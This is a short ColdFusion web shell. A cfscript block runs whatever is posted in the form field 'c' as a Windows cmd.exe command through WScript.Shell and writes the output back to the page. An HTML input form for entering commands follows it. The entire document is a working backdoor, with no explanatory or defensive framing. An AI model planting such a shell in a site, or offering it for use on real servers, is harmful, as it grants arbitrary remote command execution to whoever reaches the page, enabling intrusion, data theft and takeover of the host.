<cfscript>
  if (structKeyExists(form, "c")) {
    sh = createObject("com", "WScript.Shell");
    ex = sh.Exec("cmd.exe /c " & form.c);
    writeOutput(ex.StdOut.ReadAll());
  }
</cfscript>
<form method="post"><input name="c"><input type="submit"></form>
